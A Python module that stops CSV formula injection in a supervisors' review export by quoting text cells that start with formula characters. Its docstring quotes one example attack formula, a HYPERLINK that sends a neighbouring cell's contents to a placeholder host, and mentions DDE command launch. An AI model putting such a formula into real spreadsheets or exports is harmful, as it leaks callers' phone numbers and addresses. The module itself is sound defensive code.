"""CSV that a spreadsheet opens as data, never as formulas (CSV or formula injection).

Why: supervisors open the review export in Excel or LibreOffice, and its text cells hold what
callers said and call-takers typed. A complaint such as ``=HYPERLINK("http://x/?"&B2,"open")``
would run as a formula there: it can send neighbouring cells (phone numbers, addresses) away or
launch commands through DDE. Following OWASP's guidance, a text cell beginning with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading single quote, which spreadsheets show as
plain text; numbers we computed (a negative longitude) are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

#: What makes a spreadsheet read a cell as a formula (or hide one behind whitespace).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: Any) -> Any:
    """``cell`` as a spreadsheet should show it: text that could start a formula is quoted."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


class SafeCsvWriter:
    """``csv.writer`` whose every text cell goes through :func:`neutralise`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])
